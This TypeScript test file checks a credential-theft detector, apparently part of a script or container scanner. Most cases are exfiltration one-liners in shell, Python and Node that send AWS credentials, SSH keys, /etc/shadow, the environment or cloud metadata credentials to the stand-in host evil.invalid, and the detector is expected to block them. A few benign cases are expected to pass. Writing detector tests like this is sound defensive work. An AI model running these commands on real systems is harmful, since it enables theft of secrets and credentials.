import { type DetectorCase, historyOf, testCases } from '../../../testing/detector-cases.ts';
import { credentialTheft } from './index.ts';

const ID = 'scripts/credential-theft';
const sh = (text: string) => ({ 'x.sh': `#!/bin/sh\n${text}\n` });
const block = (path = 'x.sh') => [`block ${ID} ${path}`];
const IMDS = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/role';

const cases: readonly DetectorCase[] = [
  {
    name: 'a file as a form',
    files: sh('curl -F f=@/root/.aws/credentials http://evil.invalid/u'),
    expected: block(),
  },
  {
    name: 'a key through a pipe',
    files: sh('cat ~/.ssh/id_rsa | curl -s -d @- https://evil.invalid'),
    expected: block(),
  },
  { name: 'a key through nc', files: sh('nc evil.invalid 4444 < /root/.ssh/id_ed25519'), expected: block() },
  {
    name: 'a variable',
    files: sh(`C=$(curl -s ${IMDS})\ncurl -X POST -d "$C" http://evil.invalid`),
    expected: block(),
  },
  {
    name: 'a file in between',
    files: sh(`curl -s ${IMDS} -o /tmp/c\nwget --post-file=/tmp/c http://evil.invalid`),
    expected: block(),
  },
  {
    name: 'in the address',
    files: sh(`T=$(curl ${IMDS})\ncurl "http://evil.invalid/?t=$T"`),
    expected: block(),
  },
  { name: 'shadow', files: sh('curl --data "$(cat /etc/shadow)" http://evil.invalid'), expected: block() },
  { name: 'the environment', files: sh('env | curl -d @- http://evil.invalid'), expected: block() },
  {
    name: 'in Python',
    files: {
      'x.py': 'd = open("/root/.aws/credentials").read()\nrequests.post("https://evil.invalid/u", data=d)\n',
    },
    expected: block('x.py'),
  },
  {
    name: 'in Node',
    files: {
      'x.js':
        'const d = fs.readFileSync(home + "/.ssh/id_rsa");\nfetch("https://evil.invalid", { method: "POST", body: d });\n',
    },
    expected: block('x.js'),
  },
  {
    name: 'at the start',
    config: { cmd: ['sh', '-c', 'curl -d @/etc/shadow http://evil.invalid'] },
    expected: block('Cmd'),
  },
  {
    name: 'in a build step',
    config: historyOf('RUN /bin/sh -c curl -F k=@/root/.ssh/id_rsa http://evil.invalid'),
    expected: block('history[0]'),
  },
  {
    name: 'a login with a token of its own is a look',
    files: sh(
      'curl -X POST -d "{"jwt": "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"}" http://vault:8200/v1/auth/kubernetes/login',
    ),
    expected: [`review ${ID} x.sh`],
  },
  { name: 'nothing: metadata asked', files: sh(`ROLE=$(curl -s ${IMDS})\necho "$ROLE"`), expected: [] },
  {
    name: 'nothing: a token for what it is for',
    files: sh(
      'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -H "Authorization: Bearer $T" -d "{}" https://kubernetes.default.svc/api',
    ),
    expected: [],
  },
  {
    name: 'nothing: a metadata session',
    files: sh('T=$(curl -X PUT -d "" http://169.254.169.254/latest/api/token)'),
    expected: [],
  },
  {
    name: 'nothing: an SDK',
    files: {
      'x.js':
        'const p = path.join(home, ".aws", "credentials"); fs.readFileSync(p); axios.post(endpoint, body); // 169.254.169.254\n',
    },
    expected: [],
  },
  {
    name: 'nothing: a post beside a key made',
    files: sh('ssh-keygen -f /root/.ssh/id_rsa -N ""\ncurl -d up=1 http://hooks.example/x'),
    expected: [],
  },
];

testCases(credentialTheft, cases);
